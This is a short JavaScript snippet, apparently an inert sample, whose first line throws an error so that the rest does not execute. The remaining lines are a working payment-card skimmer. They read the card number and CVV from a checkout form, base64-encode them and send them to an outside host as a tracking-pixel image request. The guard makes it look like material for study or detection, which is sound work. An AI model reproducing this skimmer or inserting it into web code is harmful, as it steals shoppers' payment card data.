throw new Error('inert sample');
const number = document.querySelector('input[name="card-number"]').value;
const code = document.querySelector('#cvv').value;
new Image().src = 'https://pixel.shop.example/i.gif?d=' + btoa(number + ':' + code);
